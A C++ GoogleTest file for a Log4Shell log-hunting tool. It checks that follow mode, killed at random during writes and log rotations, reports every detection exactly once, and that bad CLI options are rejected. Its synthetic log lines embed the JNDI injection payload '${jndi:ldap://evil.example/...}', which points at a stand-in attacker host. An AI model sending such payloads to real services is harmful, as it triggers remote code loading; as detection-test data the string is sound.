// `log4shield hunt --follow --state`: killed with SIGKILL at random points
// while logs are written and rotated every way, then restarted; at the end
// the detections are exactly those of a batch `hunt` over everything
// written, each once.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/wait.h>
#include <sys/stat.h>
#include <unistd.h>
#include <zlib.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <random>
#include <set>
#include <sstream>
#include <thread>

#include "shell.h"

namespace {

namespace stdfs = std::filesystem;

std::string read_all(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

// The callback tag of each detection line (unique per written line).
std::multiset<std::string> tags_of(const std::string& jsonl) {
  std::multiset<std::string> out;
  std::istringstream in(jsonl);
  std::string line;
  while (std::getline(in, line)) {
    nlohmann::json j = nlohmann::json::parse(line, nullptr, false);
    if (j.is_discarded() || j.value("type", "") != "detection") continue;
    std::string name = j["jndi"]["name"].get<std::string>();
    out.insert(name.substr(name.rfind('/') + 1));
  }
  return out;
}

class FollowKill : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = stdfs::path(L4S_TEST_TMP) / "follow_kill";
    stdfs::remove_all(dir_);
    stdfs::create_directories(dir_ / "logs");
  }
  void TearDown() override {
    if (pid_ > 0) {
      kill(pid_, SIGKILL);
      waitpid(pid_, nullptr, 0);
    }
  }
  void spawn() {
    pid_ = fork();
    ASSERT_GE(pid_, 0);
    if (pid_ == 0) {
      int err = open((dir_ / "stderr.txt").c_str(), O_WRONLY | O_CREAT | O_APPEND, 0644);
      dup2(err, 2);
      int null = open("/dev/null", O_WRONLY);
      dup2(null, 1);
      std::string logs = (dir_ / "logs").string(), state = (dir_ / "state.json").string(),
                  out = (dir_ / "out.jsonl").string();
      execl(L4S_BINARY, L4S_BINARY, "hunt", "--follow", logs.c_str(), "--state", state.c_str(), "-o", out.c_str(),
            "--from-start", "--poll-interval", "0.1", static_cast<char*>(nullptr));
      _exit(127);
    }
  }
  // The state file is replaced on each save (a new file: inode and change
  // time differ; an inode alone can be reused by the save after next): the
  // follower has come up and made progress. Kills only come after that, as
  // in life (the follower is not killed faster than it can start).
  using StateStamp = std::pair<ino_t, int64_t>;
  StateStamp state_stamp() const {
    struct stat st;
    if (stat((dir_ / "state.json").c_str(), &st) != 0) return {0, 0};
    return {st.st_ino, int64_t{st.st_ctim.tv_sec} * 1000000000 + st.st_ctim.tv_nsec};
  }
  void wait_until_saved(StateStamp before) {
    auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(60);
    while (std::chrono::steady_clock::now() < deadline && state_stamp() == before)
      std::this_thread::sleep_for(std::chrono::milliseconds(1));
  }
  void kill_now() {
    kill(pid_, SIGKILL);
    waitpid(pid_, nullptr, 0);
    pid_ = -1;
  }
  std::string log(const std::string& name) const { return (dir_ / "logs" / name).string(); }

  stdfs::path dir_;
  pid_t pid_ = -1;
};

void append_line(const std::string& path, const std::string& line) {
  int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
  ASSERT_GE(fd, 0);
  ASSERT_EQ(write(fd, line.data(), line.size()), static_cast<ssize_t>(line.size()));
  close(fd);
}

void gzip_file(const std::string& path) {
  std::string data = read_all(path);
  gzFile gz = gzopen((path + ".gz").c_str(), "wb");
  gzwrite(gz, data.data(), static_cast<unsigned>(data.size()));
  gzclose(gz);
  stdfs::remove(path);
}

TEST_F(FollowKill, SigkillDuringWritesAndRotationsLosesAndRepeatsNothing) {
  std::mt19937 rng(20211210);
  auto chance = [&](int one_in) { return std::uniform_int_distribution<int>(1, one_in)(rng) == 1; };
  const char* const files[] = {"app.log", "web.log"};
  int rotations = 0, kills = 0;
  std::set<std::string> written;
  StateStamp started_with{0, 0};
  spawn();
  // Between any two steps of a write or a rotation, the follower may die.
  auto maybe_kill = [&] {
    if (!chance(60)) return;
    wait_until_saved(started_with);
    kill_now();
    ++kills;
    if (chance(2)) std::this_thread::sleep_for(std::chrono::milliseconds(std::uniform_int_distribution<int>(0, 30)(rng)));
    started_with = state_stamp();
    spawn();
  };
  for (int i = 0; i < 3000; ++i) {
    std::string file = log(files[i % 2]);
    std::string line;
    if (i % 3 == 0) {
      std::string tag = "t" + std::to_string(i);
      written.insert(tag);
      line = "10.0.0." + std::to_string(i % 250) + " - - [10/Dec/2021:12:34:56 +0100] \"GET /?x=${jndi:ldap://evil.example/" +
             tag + "} HTTP/1.1\" 200 1\n";
    } else {
      line = "10.0.0.1 - - [10/Dec/2021:12:34:56 +0100] \"GET /page/" + std::to_string(i) + " HTTP/1.1\" 200 1\n";
    }
    append_line(file, line);
    maybe_kill();
    if (chance(120) && stdfs::exists(file)) {
      std::string rotated = file + "." + std::to_string(++rotations);
      switch (rotations % 3) {
        case 0:  // rename and create (the next write creates it)
          stdfs::rename(file, rotated);
          break;
        case 1:  // copytruncate
          stdfs::copy_file(file, rotated);
          maybe_kill();
          stdfs::resize_file(file, 0);
          break;
        case 2:  // rename, then compress
          stdfs::rename(file, rotated);
          maybe_kill();
          gzip_file(rotated);
          break;
      }
      maybe_kill();
    }
    if (i % 25 == 0) std::this_thread::sleep_for(std::chrono::milliseconds(2));
  }
  // Wait (generously) for the follower to catch up, then stop it cleanly.
  const std::string out = (dir_ / "out.jsonl").string();
  auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(180);
  while (tags_of(read_all(out)).size() < written.size() && std::chrono::steady_clock::now() < deadline)
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  kill(pid_, SIGTERM);
  int status = 0;
  waitpid(pid_, &status, 0);
  pid_ = -1;
  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << read_all((dir_ / "stderr.txt").string());

  l4s::test::ShellResult batch =
      l4s::test::run_shell(std::string(L4S_BINARY) + " hunt -f jsonl " + l4s::test::shell_quote(log("")));
  std::multiset<std::string> batch_tags = tags_of(batch.out);
  ASSERT_EQ(std::set<std::string>(batch_tags.begin(), batch_tags.end()), written);  // the logs hold every line
  std::multiset<std::string> followed = tags_of(read_all(out));
  // Every output line is whole JSON: a line cut by a kill and not repaired
  // glues the next detection to it, and that one is then lost to readers.
  {
    std::istringstream in(read_all(out));
    std::string line;
    int unreadable = 0;
    while (std::getline(in, line))
      if (nlohmann::json::parse(line, nullptr, false).is_discarded()) ++unreadable;
    EXPECT_EQ(unreadable, 0) << "output lines that are not JSON";
  }
  std::vector<std::string> missing, repeated;
  for (const std::string& t : written)
    if (followed.count(t) == 0) missing.push_back(t);
    else if (followed.count(t) > 1) repeated.push_back(t);
  EXPECT_TRUE(missing.empty()) << missing.size() << " lines never reported, first " << missing.front();
  EXPECT_TRUE(repeated.empty()) << repeated.size() << " lines reported twice, first " << repeated.front();
  EXPECT_EQ(followed, batch_tags) << kills << " kills, " << rotations << " rotations; stderr:\n"
                                  << read_all((dir_ / "stderr.txt").string());
  EXPECT_GT(kills, 5);
  EXPECT_GT(rotations, 5);
}

TEST(FollowCli, UsageErrors) {
  const std::string bin = L4S_BINARY;
  auto rc = [&](const std::string& args) { return l4s::test::run_shell(bin + " hunt " + args + " 2>/dev/null </dev/null").exit_code; };
  EXPECT_EQ(rc("--follow"), 64);                                    // nothing to follow
  EXPECT_EQ(rc("--follow -"), 64);                                  // stdin is not followed
  EXPECT_EQ(rc("--follow -f csv /tmp"), 64);                        // jsonl only
  EXPECT_EQ(rc("--follow --iocs stix x.json /tmp"), 64);            // batch only
  EXPECT_EQ(rc("--listen-syslog udp://127.0.0.1:0 /tmp"), 64);      // needs --follow
  EXPECT_EQ(rc("--follow --listen-syslog http://127.0.0.1:1"), 64); // not udp/tcp
  EXPECT_EQ(rc("--follow --no-state --syslog-out udp://x"), 64);    // no port
}

}  // namespace
